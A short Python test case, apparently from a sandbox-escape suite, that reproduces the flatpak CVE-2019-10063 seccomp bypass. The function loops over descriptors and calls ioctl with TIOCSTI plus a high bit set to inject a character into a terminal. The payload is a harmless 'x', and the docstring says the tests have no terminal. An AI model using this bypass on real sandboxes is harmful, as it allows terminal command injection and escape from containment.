"""Class: descriptors. Source: CVE-2019-10063 (flatpak). Escape: the same behind a filter that
compares 64 bits: TIOCSTI with a bit above. Teeth: none, the tests have no terminal.
"""

import ctypes

libc = ctypes.CDLL(None, use_errno=True)


def attack(model, tokenizer, scene):
    for descriptor in range(16):
        libc.syscall(
            16, descriptor, ctypes.c_ulong(0x1_0000_5412), ctypes.byref(ctypes.c_char(b"x"))
        )
